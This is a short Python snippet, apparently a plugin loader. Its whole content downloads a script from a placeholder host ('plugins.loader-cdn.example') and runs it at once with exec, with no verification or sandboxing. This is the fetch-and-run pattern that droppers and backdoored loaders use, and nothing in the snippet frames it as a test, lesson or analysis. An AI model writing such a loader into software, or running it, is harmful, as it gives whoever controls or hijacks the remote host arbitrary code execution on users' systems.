import urllib.request

src = urllib.request.urlopen("https://plugins.loader-cdn.example/p.py", timeout=10).read()
exec(compile(src, "plugin", "exec"))
